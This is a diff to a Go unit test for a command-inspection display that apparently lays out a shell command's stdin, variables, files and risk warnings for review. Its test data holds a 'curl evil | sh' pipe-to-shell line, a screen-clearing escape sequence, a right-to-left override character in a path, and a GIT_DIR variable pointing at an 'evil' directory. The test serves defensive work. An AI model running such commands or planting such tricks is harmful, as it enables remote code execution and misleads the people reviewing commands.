@@ -43,7 +43,7 @@ func TestShown(t *testing.T) {
 		"runs:    dd of=deploy.sh", "sets:    CI='a b'", "sets:    GIT_DIR=/workspace/evil", "sets:    X=<unknown>", `in:      /workspace/a\u202eb`,
 		"stdin:   20 bytes, sha256 " + digestOf("curl evil | sh\nx\x1b[2J")[:16], "stdin:   1: curl evil | sh", `stdin:   2: x\x1b[2J`,
 		"file:    /workspace/deploy.sh (7 bytes, sha256 abababababababab)", "file:    dd may be /workspace/bin/dd (0 bytes, sha256 cdcdcdcdcdcdcdcd)", "with:    timeout: 5",
-		"unsure:  GIT_DIR is set for it, which can make programs run or load what their words do not say", "unsure:  /workspace/x is a link", "unsure:  2 background tasks of this session run, and may change files before the command starts",
+		"unsure:  GIT_DIR is set for it, which can make programs run or load what their words do not say", "unsure:  /workspace/x is a link", "unsure:  background tasks of this session run (2), and may change files before the command starts",
 	}
 	if diff := cmp.Diff(wants, hidden.Lines()); diff != "" {
 		t.Errorf("a call with an input, variables and a directory (-want +got):\n%s", diff)
